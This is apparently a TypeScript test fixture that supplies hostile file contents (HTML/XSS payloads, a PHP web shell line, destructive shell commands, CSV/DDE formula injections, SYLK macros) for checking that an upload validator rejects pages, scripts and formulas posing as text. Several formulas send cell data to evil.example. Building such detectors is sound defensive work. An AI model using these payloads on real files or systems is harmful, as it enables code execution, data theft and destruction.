import { type FileCase, fileCase } from "./file-case.ts";

const pages = [
  "<!DOCTYPE html><p>hi",
  "<html><body>x",
  "  \n\t<script>alert(1)</script>",
  "\uFEFF<HTML>",
  "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "<?xml version='1.0'?><svg/>",
  "<?php system($_GET['c']);",
  "<!-- comment --><script>alert(1)</script>",
  "<iframe src=//evil.example>",
  "<a href=javascript:alert(1)>x</a>",
  "<img src=x onerror=alert(1)>",
  "<%@ page import='java.io.*' %>",
  "<hta:application id=x>",
  "javascript:alert(1)",
  "MIME-Version: 1.0\nContent-Type: multipart/related",
];

const scripts = [
  "#!/bin/sh\nrm -rf /\n",
  "#!/usr/bin/env python3\n",
  "@echo off\r\nformat c:\r\n",
  "@ECHO OFF & calc",
  "#Requires -Version 5\nInvoke-Expression $x",
  "param($x)\nStart-Process calc",
  "powershell -enc SQBFAFgA",
  "On Error Resume Next\nSet x = CreateObject(1)",
  "Windows Registry Editor Version 5.00\r\n",
  "[InternetShortcut]\nURL=file://evil.example/x.exe\n",
  "[autorun]\nopen=x.exe",
  "{\\rtf1 {\\object\\objdata 0105}}",
  "%!PS-Adobe-3.0\n",
  "%PDF-1.7\n",
  "MZqFpD='\n",
];

const formulas = [
  "a\n=cmd|'/C calc'!A0\n",
  "a,b\n1,@SUM(1+1)*cmd|'/C calc'!A0\n",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "+rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=WEBSERVICE("http://evil.example/"&A2)',
  '1,=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '"=1+IMPORTDATA (""http://evil.example"")"',
  '=_xlfn.WEBSERVICE("http://evil.example/")',
  '=IF(A1<{HYPERLINK("http://evil.example")},1,2)',
  '=REGISTER.ID("kernel32","WinExec")',
  '\t=  rtd("x","","y")',
  `=${" ".repeat(9)}cmd|'/C calc'!A0`,
  `a;b\n1;=${" ".repeat(5_000)}WEBSERVICE${" ".repeat(5_000)}("http://evil.example/")`,
  `"=${"\n".repeat(9)}WEBSERVICE(""http://evil.example/"")"`,
  '=\u3000WEBSERVICE("http://evil.example/")',
  '=\u200BWEBSERVICE("http://evil.example/")',
  "\uFF1Dcmd|'/C calc'!A0",
  '\uFF1D\uFF37EBSERVICE("http://evil.example/")',
  `=cmd|'/C calc ${"x".repeat(600)}'!A0`,
  "=cmd|     '/C calc'!A0",
  "='cmd'|'/C calc'!A0",
  '"=cmd|""/C calc""!A0"',
  `"=cmd|'/C\ncalc'!A0"`,
  `=${"a".repeat(70)}|'/C calc'!A0`,
  '=1\u00A0+WEBSERVICE("http://evil.example/")',
  `${"1,2\n".repeat(100_000)}=IF(1>0,${" ".repeat(300_000)}WEBSERVICE("http://evil.example/"),2)`,
  'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC("CALC.EXE")\r\nE\r\n',
  'ID;PWXL;N;E\r\nC;X1;Y101;K0;ECALL("Kernel32","WinExec","JCJ","calc",1)\r\nE\r\n',
];

/** Bytes that are no text in UTF-8. */
const binaries: readonly (readonly [string, Buffer])[] = [
  ["NUL", Buffer.from("hello\0world")],
  ["UTF-16 with mark", Buffer.from("\uFEFFhello", "utf16le")],
  ["UTF-16 without", Buffer.from("hello", "utf16le")],
  ["UTF-16, big end first", Buffer.from("feff00680069", "hex")],
  ["UTF-32", Buffer.from("fffe000068000000", "hex")],
  ["Windows-1252", Buffer.from("Größe", "latin1")],
  ["half a character", Buffer.from("e282", "hex")],
  ["overlong", Buffer.from("68c0af", "hex")],
  ["a surrogate", Buffer.from("68eda080", "hex")],
  ["controls", Buffer.from("\x01\x02\x03\x7f")],
  ["a PDF behind words", Buffer.from("hello\n%PDF-1.4\n1 0 obj\nstartxref\n0\n%%EOF")],
];

/** Pages, scripts, formulas and binaries that call themselves text. */
export function hostileTexts(): readonly FileCase[] {
  const bytes = (text: string) => Buffer.from(text);
  return [
    ...pages.map((text) => fileCase("page as text", text.slice(0, 30), "txt", bytes(text))),
    ...pages.slice(0, 6).map((text) => fileCase("page as text", text.slice(0, 30), "csv", bytes(text))),
    ...scripts.map((text) => fileCase("script as text", text.slice(0, 30), "txt", bytes(text))),
    ...formulas.map((text) => fileCase("formula in table", text.slice(0, 30), "csv", bytes(text))),
    ...binaries.map(([title, content]) => fileCase("binary as text", title, "txt", content)),
  ];
}
